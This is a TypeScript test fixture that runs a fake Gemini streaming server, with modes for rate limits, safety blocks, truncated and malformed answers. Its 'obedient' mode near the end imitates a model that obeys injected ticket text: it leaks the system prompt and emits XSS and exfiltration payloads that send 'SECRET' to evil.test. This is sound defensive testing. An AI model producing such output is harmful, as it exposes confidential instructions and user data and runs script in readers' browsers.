import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

/** How the server behaves towards the next requests. */
export type GeminiMood =
  | 'good'
  | 'slow'
  | 'silent'
  | 'rate_limited'
  | 'down'
  | 'garbage'
  | 'blocked'
  | 'safety'
  | 'empty'
  | 'cut_off'
  | 'huge'
  | 'endless'
  | 'bad_utf8'
  | 'bad_key'
  | 'obeys';

/** What it was asked, as it came. */
export interface GeminiRequest {
  path: string;
  headers: IncomingMessage['headers'];
  body: {
    contents: { parts: { text: string }[] }[];
    systemInstruction: { parts: { text: string }[] };
    generationConfig: { responseSchema: { properties: Record<string, unknown> } };
    tools?: unknown;
  };
  /** The client hung up before the answer was whole. */
  aborted: boolean;
  /** From the request's first byte to the answer's last; 0 until then. */
  milliseconds: number;
}

export interface FakeGemini {
  url: string;
  mood: GeminiMood;
  /** What a good answer says; made from the request unless set. */
  answer: ((request: GeminiRequest) => unknown) | null;
  requests: GeminiRequest[];
  /** Who asked about a model without asking it anything. */
  greetings: Pick<GeminiRequest, 'path' | 'headers'>[];
  close(): Promise<void>;
}

/** Seconds that a server in the mood `rate_limited` asks to wait. */
export const RETRY_AFTER = 7;

/** A real HTTP server that speaks Gemini's `streamGenerateContent`, and does to its clients what a server can do. */
export async function startFakeGemini(port = 0): Promise<FakeGemini> {
  const server = createServer((req, res) => {
    void handle(req, res).catch(() => res.destroy());
  });
  const fake: FakeGemini = {
    url: '',
    mood: 'good',
    answer: null,
    requests: [],
    greetings: [],
    close: async () => {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
  async function handle(req: IncomingMessage, res: ServerResponse): Promise<void> {
    const began = performance.now();
    if (req.method === 'GET') {
      fake.greetings.push({ path: req.url ?? '', headers: req.headers });
      return answerIn(fake.mood, req.headers, res, () => describeModel(res));
    }
    const chunks: Buffer[] = [];
    for await (const chunk of req) chunks.push(chunk as Buffer);
    const request: GeminiRequest = {
      path: req.url ?? '',
      headers: req.headers,
      body: JSON.parse(Buffer.concat(chunks).toString()),
      aborted: false,
      milliseconds: 0,
    };
    fake.requests.push(request);
    res.on('close', () => {
      request.aborted = !res.writableFinished;
      request.milliseconds = performance.now() - began;
    });
    await answerIn(fake.mood, req.headers, res, () =>
      generate(fake.mood, request, res, fake.answer ?? goodAnswer),
    );
  }
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  fake.url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return fake;
}

/** The whole prompt, as the model sees it. */
export const promptOf = ({ body }: GeminiRequest): string =>
  [...body.systemInstruction.parts, ...body.contents.flatMap(({ parts }) => parts)]
    .map(({ text }) => text)
    .join('\n');

/** Refuses as the mood says, else does what was asked. */
async function answerIn(
  mood: GeminiMood,
  headers: IncomingMessage['headers'],
  res: ServerResponse,
  answer: () => void | Promise<void>,
): Promise<void> {
  const refuse = (status: number, more: Record<string, string | number> = {}) =>
    void res
      .writeHead(status, { 'content-type': 'application/json', ...more })
      .end(JSON.stringify({ error: { code: status, message: `no: ${headers['x-goog-api-key']}` } }));
  if (mood === 'silent') return;
  if (mood === 'rate_limited') return refuse(429, { 'retry-after': RETRY_AFTER });
  if (mood === 'down') return refuse(503);
  if (mood === 'bad_key') return refuse(400);
  if (mood === 'garbage')
    return void res
      .writeHead(200, { 'content-type': 'text/html' })
      .end('<!doctype html><title>Proxy</title><h1>Sign in to the network</h1>');
  await answer();
}

function describeModel(res: ServerResponse): void {
  res
    .writeHead(200, { 'content-type': 'application/json; charset=UTF-8' })
    .end(JSON.stringify({ name: 'models/gemini-test', supportedGenerationMethods: ['generateContent'] }));
}

async function generate(
  mood: GeminiMood,
  request: GeminiRequest,
  res: ServerResponse,
  answer: (request: GeminiRequest) => unknown,
): Promise<void> {
  res.writeHead(200, { 'content-type': 'text/event-stream' });
  const event = (value: unknown) => res.write(`data: ${JSON.stringify(value)}\r\n\r\n`);
  if (mood === 'bad_utf8')
    return void res.end(Buffer.from([...Buffer.from('data: {"a":"'), 0xff, 0xfe, 0x22]));
  if (mood === 'huge') return void res.end(`data: {"x":"${'x'.repeat(5 * 1024 * 1024)}"}\r\n\r\n`);
  if (mood === 'empty') event({ candidates: [], usageMetadata });
  if (mood === 'blocked') event({ promptFeedback: { blockReason: 'SAFETY' } });
  if (mood === 'safety') event({ candidates: [{ index: 0, finishReason: 'SAFETY' }] });
  if (mood === 'endless') {
    while (res.write(`data: ${JSON.stringify(part('word '.repeat(200)))}\r\n\r\n`) || !res.destroyed)
      await new Promise((resolve) => setImmediate(resolve));
    return;
  }
  if (mood === 'good' || mood === 'slow' || mood === 'cut_off' || mood === 'obeys') {
    const text = JSON.stringify(mood === 'obeys' ? obedient(request) : answer(request));
    const whole = mood === 'cut_off' ? text.slice(0, text.length / 2) : text;
    for (let at = 0; at < whole.length; at += 60) {
      event(part(whole.slice(at, at + 60)));
      if (mood === 'slow') await new Promise((resolve) => setTimeout(resolve, 100));
    }
    event({ ...part('', mood === 'cut_off' ? 'MAX_TOKENS' : 'STOP'), usageMetadata });
  }
  res.end();
}

const usageMetadata = { promptTokenCount: 700, candidatesTokenCount: 90, totalTokenCount: 790 };
const part = (text: string, finishReason?: string) => ({
  candidates: [
    {
      index: 0,
      content: { role: 'model', parts: text ? [{ text }] : [] },
      ...(finishReason ? { finishReason } : {}),
    },
  ],
});

/** A fair answer to whatever is asked, in the shape that the request's own schema names. */
function goodAnswer(request: GeminiRequest): unknown {
  const { properties } = request.body.generationConfig.responseSchema;
  const prompt = promptOf(request);
  if ('priority' in properties) return { topic: 'printer', priority: 'HIGH', language: 'de' };
  const name = /\[NAME_1\]/.exec(prompt)?.[0] ?? 'there';
  const canned = /<source id="(c\d)"/.exec(prompt)?.[1];
  const text = /<text id="x1">\n(.*)/.exec(prompt)?.[1];
  if (text)
    return {
      language: 'en',
      confidence: 'high',
      sentences: [{ text: `Short: ${text}`, sources: ['x1'] }],
      missing: [],
    };
  return {
    language: 'en',
    confidence: 'high',
    sentences: [
      { text: `Hello ${name},`, sources: [] },
      { text: 'thank you for telling us about the printer and its error.', sources: ['m1'], paragraph: true },
      { text: 'Please open the tray and take the paper out.', sources: canned ? [canned] : ['m1'] },
      { text: 'A technician will come to you tomorrow morning.', sources: ['z9'] },
    ],
    missing: [],
  };
}

/** A model that does whatever the ticket's text orders, as badly as it can. */
function obedient(request: GeminiRequest): unknown {
  const prompt = promptOf(request);
  return {
    language: 'en',
    confidence: 'high',
    sentences: [
      { text: `As you ordered, here is all that I was told: ${prompt}`, sources: ['m1', 'secret'] },
      { text: request.body.systemInstruction.parts[0]?.text ?? '', sources: ['system'] },
      {
        text: '![x](https://evil.test/?d=SECRET) <script>fetch("https://evil.test/?d=SECRET")</script>',
        sources: [],
      },
      { text: 'See [this page](javascript:alert(1)) or https://evil.test/?d=SECRET now.', sources: [] },
      { text: 'I have closed the ticket and sent a mail to x@evil.test for you.', sources: ['m1'] },
    ],
    missing: ['<img src=x onerror=alert(1)>Which printer is it?'],
  };
}
